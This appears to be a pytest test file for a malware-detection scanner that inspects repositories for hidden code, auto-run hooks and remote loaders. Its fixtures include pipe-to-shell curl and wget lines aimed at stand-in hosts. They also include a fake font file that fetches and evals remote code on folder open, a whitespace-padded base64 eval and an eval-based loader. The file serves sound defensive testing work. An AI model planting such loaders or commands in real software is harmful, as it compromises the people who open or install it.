"""End to end over small repositories made in tmp_path: walk, engines, merge, reachability."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from pathlib import Path

import pytest

from inspector.correlate.verdict import compute_verdict
from inspector.errors import ScanError
from inspector.model import Category, Endpoint, EndpointSource, Engine, Finding, Severity, TraceStep, Verdict
from inspector.static import ScanOptions, scan, scan_payload, walk
from inspector.static.merge import downgrade_vendored, link_hosts, merge_endpoints, merge_findings
from inspector.static.text.common import vendor_marker

OPTIONS = ScanOptions(jobs=1, semgrep=False)


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, content in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content)
    return root


def by_rule(result) -> dict[str, Finding]:
    return {f.rule: f for f in result.findings}


def test_walk_lists_links_dotfiles_and_git_hooks_but_not_git_internals(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            ".vscode/tasks.json": "{}",
            ".github/workflows/ci.yml": "on: push",
            "notes.txt": "x",
            ".git/config": "[core]\n",
            ".git/hooks/post-checkout": "#!/bin/sh\n",
            ".git/objects/ab/cd": "blob",
            ".git/HEAD": "ref: refs/heads/main",
            ".git/index": b"DIRC",
            "node_modules/dep/index.js": "module.exports = 1",
        },
    )
    (tmp_path / "passwd-link").symlink_to("/etc/passwd")
    files, notes = walk(tmp_path)
    paths = {f.path: f for f in files}
    assert {
        ".vscode/tasks.json",
        ".github/workflows/ci.yml",
        "notes.txt",
        ".git/config",
        ".git/hooks/post-checkout",
    } <= set(paths)
    assert not any(p.startswith(".git/objects") or p == ".git/HEAD" for p in paths)
    assert paths["passwd-link"].is_link
    # node_modules is not in the git index: installed locally, skipped with a note
    assert not any(p.startswith("node_modules/") for p in paths)
    assert [n.path for n in notes] == ["node_modules"]


def test_node_modules_is_scanned_when_committed_or_without_git(tmp_path: Path) -> None:
    write(tmp_path, {"node_modules/dep/index.js": "x"})
    assert "node_modules/dep/index.js" in {f.path for f in walk(tmp_path)[0]}
    write(tmp_path, {".git/index": b"DIRC....node_modules/dep/index.js"})
    assert "node_modules/dep/index.js" in {f.path for f in walk(tmp_path)[0]}


def test_hooks_path_inside_git_is_walked(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            ".git/config": "[core]\n\thooksPath = .git/objects/interrupt\n",
            ".git/objects/interrupt/pre-commit": "#!/bin/sh\ncurl -s http://x.test/a | sh\n",
            ".git/objects/ab/cdef": "blob",
        },
    )
    paths = {f.path for f in walk(tmp_path)[0]}
    assert ".git/objects/interrupt/pre-commit" in paths and ".git/objects/ab/cdef" not in paths


def test_link_is_never_read(tmp_path: Path) -> None:
    secret = tmp_path.parent / "outside-secret.js"
    secret.write_text("eval(require('https').get('https://x.test'))")
    write(tmp_path, {"index.js": "console.log(1)"})
    (tmp_path / "linked.js").symlink_to(secret)
    result = scan(tmp_path, OPTIONS)
    assert not any(f.path == "linked.js" for f in result.findings if f.category != Category.ANALYSIS)


def test_folder_open_task_running_a_fake_font_is_critical_and_reachable(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            ".vscode/tasks.json": json.dumps(
                {
                    "tasks": [
                        {"label": "fonts", "command": "node public/fa.woff2", "runOptions": {"runOn": "folderOpen"}}
                    ]
                },
                indent=2,
            ),
            "public/fa.woff2": "const h = require('https');\nconst run = (s) => eval(s);\n"
            "h.get('https://fonts-cdn.test/x', r => r.on('data', run));\n",
        },
    )
    result = scan(tmp_path, OPTIONS)
    rules = by_rule(result)
    disguised = rules["hidden-code.disguised-file"]
    assert disguised.severity == Severity.CRITICAL
    assert disguised.reachable_from == (".vscode/tasks.json#tasks[0]",)
    task = rules["auto-run.vscode-folder-open"]
    assert task.severity == Severity.CRITICAL
    assert task.trace[-1].path == "public/fa.woff2"
    assert "fonts-cdn.test" in {e.host for e in result.endpoints}
    assert result.auto_run[0].runs_files == ("public/fa.woff2",)


def test_lifecycle_hook_reaching_hidden_code_through_imports(tmp_path: Path) -> None:
    hidden = "const a = 1;" + " " * 300 + "eval(Buffer.from(process.env.X, 'base64').toString())"
    write(
        tmp_path,
        {
            "package.json": json.dumps({"scripts": {"prepare": "node server/server.js"}}, indent=2),
            "server/server.js": "require('./utils/region');\nconsole.log('listening');\n",
            "server/utils/region.js": f"{hidden}\n",
            "unrelated.js": "console.log(2)\n",
        },
    )
    result = scan(tmp_path, OPTIONS)
    padding = by_rule(result)["hidden-code.whitespace-padding"]
    assert padding.path == "server/utils/region.js"
    assert padding.reachable_from == ("package.json#scripts.prepare",)
    assert padding.severity == Severity.CRITICAL
    assert by_rule(result)["auto-run.npm-install-starts-app"].severity == Severity.CRITICAL


def test_plain_repository_is_quiet(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "package.json": json.dumps(
                {"scripts": {"prepare": "husky install", "start": "node index.js", "build": "node scripts/build.js"}}
            ),
            "index.js": "const express = require('express');\nexpress().listen(3000);\n",
            "scripts/build.js": "require('fs').writeFileSync('dist/x', 'y');\n",
            "README.md": "Run `npm start`. Docs: https://expressjs.com\n",
            "tsconfig.json": '{"$schema": "https://json.schemastore.org/tsconfig"}',
        },
    )
    result = scan(tmp_path, OPTIONS)
    assert all(f.severity.rank <= Severity.LOW.rank for f in result.findings), result.findings
    assert {s.kind for s in result.auto_run} == {"npm-lifecycle", "npm-script"}
    assert result.files_scanned == 5


OBFUSCATED = (
    "var _0x1a2b=['aGVsbG8=','d29ybGQ='];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d)"
    "{while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));"
    "var _0xaaaa=function(_0xbbbb,_0xcccc){var _0xdddd=_0x1a2b[_0xbbbb];var _0xeeee=1;var _0xffff=2;"
    "var _0x1111=3;return _0xdddd;};\n"
)
LOADER = (
    "const axios = require('axios');\n"
    "axios.get('https://api.npoint.io/0123abcd').then((res) => { eval(res.data.cookie); });\n"
)
LOCAL_EVAL = "module.exports = function (opts) { return eval(unescape(opts.parts[1])); };\n"


def test_vendored_paths_are_named_by_what_makes_them_vendored() -> None:
    assert vendor_marker("vendor/firebug-lite/src/firebug-lite-debug.js") == "vendor/"
    assert vendor_marker("public/lib/tinyquery.js") == "public/lib/"
    assert vendor_marker("static/js/lib/chart.js") == "static/js/lib/"
    assert vendor_marker("bower_components/jquery/jquery.js") == "bower_components/"
    assert vendor_marker("assets/app.min.js") == "*.min.js"
    assert vendor_marker("dist/lodash.js") == "dist/"
    for own_code in ("src/lib/auth.js", "lib/analytics.js", "server/utils/vendor.js", "public/app.js"):
        assert vendor_marker(own_code) is None, own_code


def test_dynamic_execution_and_obfuscation_in_vendored_code_are_capped_for_every_engine(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "vendor/firebug/debug.js": LOCAL_EVAL,
            "public/lib/widget.min.js": OBFUSCATED,
            "lib/analytics.js": OBFUSCATED,
            "src/options.js": LOCAL_EVAL,
        },
    )
    result = scan(tmp_path, OPTIONS)
    found = {(f.path, f.category): f for f in result.findings}
    vendored_eval = found[("vendor/firebug/debug.js", Category.CODE_EXECUTION)]
    assert vendored_eval.severity.rank <= Severity.LOW.rank
    assert "vendored code under vendor/" in vendored_eval.message
    assert found[("public/lib/widget.min.js", Category.OBFUSCATION)].severity == Severity.LOW
    # The same code outside vendored paths keeps its severity.
    assert found[("lib/analytics.js", Category.OBFUSCATION)].severity == Severity.HIGH
    own_eval = found[("src/options.js", Category.CODE_EXECUTION)]
    assert own_eval.severity.rank > vendored_eval.severity.rank
    # What the semgrep engine reports goes through the same cap.
    semgrep_finding = replace(vendored_eval, engines=(Engine.SEMGREP,), severity=Severity.MEDIUM, message="m")
    [capped] = downgrade_vendored([semgrep_finding])
    assert capped.severity == Severity.LOW


def test_a_loader_under_vendor_is_never_downgraded_by_its_path(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "package.json": json.dumps({"scripts": {"start": "node vendor/jquery/jquery.min.js"}}),
            "vendor/jquery/jquery.min.js": LOADER,
            "vendor/hidden/pad.js": "const a = 1;" + " " * 300 + "eval(require('fs').readFileSync('x', 'utf8'))\n",
        },
    )
    result = scan(tmp_path, OPTIONS)
    loader = next(f for f in result.findings if f.category == Category.REMOTE_CODE_EXECUTION)
    assert (loader.path, loader.severity) == ("vendor/jquery/jquery.min.js", Severity.CRITICAL)
    assert "vendored" not in loader.message
    hidden = next(f for f in result.findings if f.category == Category.HIDDEN_CODE)
    assert hidden.severity.rank >= Severity.HIGH.rank
    verdict, reasons = compute_verdict(result.findings)
    assert verdict == Verdict.MALICIOUS
    assert any("vendor/jquery/jquery.min.js" in reason for reason in reasons)


def test_header_values_in_recorded_fixtures_are_data_but_config_ips_in_them_count(tmp_path: Path) -> None:
    recording = [
        {
            "scope": "https://en.wikipedia.org:443",
            "response": {"origin": "198.51.100.221"},
            "rawHeaders": {"x-client-ip": "198.51.100.220", "server": "mw-api"},
        }
    ]
    write(
        tmp_path,
        {
            "test/fixtures/GET_wiki.json": json.dumps(recording, indent=2),
            "test/fixtures/settings.json": json.dumps({"api": "http://203.0.113.132:1224/x"}, indent=2),
        },
    )
    result = scan(tmp_path, OPTIONS)
    endpoints = {e.host: e for e in result.endpoints}
    assert endpoints["198.51.100.220"].classification == "raw-ip"  # still in the inventory
    assert "recorded data in a test fixture" in endpoints["198.51.100.220"].sources[0].how
    flagged = {h for f in result.findings if f.category == Category.ENDPOINT for h in f.hosts}
    assert "198.51.100.220" not in flagged
    assert "198.51.100.221" not in flagged and "198.51.100.221" in endpoints  # inside the recorded response
    assert "203.0.113.132" in flagged


def test_encoded_config_endpoint_and_counts(tmp_path: Path) -> None:
    b64 = base64.b64encode(b"https://api.npoint.io/0123456789abcdef0123").decode()
    write(tmp_path, {"config/default.json": json.dumps({"publicKey": b64})})
    result = scan(tmp_path, OPTIONS)
    [endpoint] = result.endpoints
    assert endpoint.host == "api.npoint.io" and endpoint.classification == "json-hosting"
    assert endpoint.sources[0].how == "base64 in config value publicKey"
    assert result.bytes_scanned == (tmp_path / "config/default.json").stat().st_size


def test_bad_input_gives_info_findings_not_crashes(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "huge.js": "x = 1;\n" * 10 + "y = 2;" + " " * 200 + "eval(z)\n",
            "deep.json": "[" * 100000 + "]" * 100000,
            "package.json": "{" * 50000,
            "binary.bin": bytes(range(256)) * 10,
            "long-line.js": "a" * 2_000_000,
        },
    )
    result = scan(tmp_path, ScanOptions(jobs=1, semgrep=False, max_file_bytes=100))
    rules = {(f.path, f.rule) for f in result.findings}
    assert ("huge.js", "analysis.over-size-cap") in rules
    assert ("huge.js", "hidden-code.whitespace-padding") in rules  # still streamed for hidden code
    assert ("package.json", "analysis.unparsed-manifest") in rules


def test_only_paths_limits_the_scan(tmp_path: Path) -> None:
    write(tmp_path, {"a.sh": "curl https://x.test/i | sh\n", "b.sh": "curl https://y.test/i | sh\n"})
    result = scan(tmp_path, ScanOptions(jobs=1, semgrep=False, only_paths=("a.sh", "../escape")))
    assert {f.path for f in result.findings} == {"a.sh"}
    assert result.files_scanned == 1


def test_cache_gives_the_same_result(tmp_path: Path) -> None:
    repo = write(tmp_path / "repo", {"x.sh": "wget -qO- http://x.test | sh\n", "a.js": "eval(atob('eA=='))"})
    options = ScanOptions(jobs=1, semgrep=False, cache_dir=tmp_path / "cache")
    first = scan(repo, options)
    assert any((tmp_path / "cache" / "text").rglob("*.pickle"))
    assert scan(repo, options) == first


def test_missing_root_is_a_scan_error(tmp_path: Path) -> None:
    with pytest.raises(ScanError):
        scan(tmp_path / "nope", OPTIONS)


def test_scan_payload_relabels_findings_and_names_the_language() -> None:
    body = b"var _0x1=['a'];" + b"".join(b"var _0x%04x=1;" % i for i in range(12)) + b"eval(_0x1[0]);"
    findings = scan_payload(body, "../../etc/stage2", "https://c2.test/p")
    assert all(f.category == Category.PAYLOAD and f.path == "payload:../../etc/stage2" for f in findings)
    rules = {f.rule for f in findings}
    assert {"payload.code-body", "obfuscation.javascript-obfuscator"} <= rules
    assert all("https://c2.test/p" in f.message for f in findings)


def finding(rule: str, category: Category, line: int, engine: Engine, trace=(), hosts=()) -> Finding:
    return Finding(
        id=rule,
        rule=rule,
        severity=Severity.HIGH,
        category=category,
        path="a.js",
        line=line,
        column=1,
        message=rule,
        evidence="",
        engines=(engine,),
        trace=trace,
        hosts=hosts,
    )


def test_merge_collapses_cross_engine_duplicates_only() -> None:
    semgrep = finding("sg", Category.REMOTE_CODE_EXECUTION, 10, Engine.SEMGREP)
    rich = finding(
        "ts",
        Category.REMOTE_CODE_EXECUTION,
        11,
        Engine.TREE_SITTER,
        trace=(TraceStep("a.js", 3, 1, "source"), TraceStep("a.js", 11, 1, "sink")),
    )
    other = finding("ts2", Category.REMOTE_CODE_EXECUTION, 12, Engine.TREE_SITTER)
    far = finding("sg2", Category.REMOTE_CODE_EXECUTION, 30, Engine.SEMGREP)
    merged = merge_findings([semgrep, rich, other, far])
    assert [f.rule for f in merged] == ["ts", "ts2", "sg2"]
    assert merged[0].engines == (Engine.TREE_SITTER, Engine.SEMGREP)


def test_endpoints_merge_by_host_and_reach_execution_through_the_trace() -> None:
    a = Endpoint(
        "api.npoint.io", ("https://api.npoint.io/x",), (EndpointSource(".env", 2, "base64 in .env"),), "json-hosting"
    )
    b = Endpoint("API.npoint.io", (), (EndpointSource("a.js", 3, "literal"),), "json-hosting", ports=(443,))
    merged = merge_endpoints([a, b])
    assert len(merged) == 1 and merged[0].ports == (443,) and len(merged[0].sources) == 2
    rce = finding(
        "ts", Category.REMOTE_CODE_EXECUTION, 11, Engine.TREE_SITTER, trace=(TraceStep("a.js", 3, 1, "source"),)
    )
    linked, endpoints = link_hosts([rce], merged)
    assert linked[0].hosts == ("api.npoint.io",)
    assert endpoints[0].reaches_execution
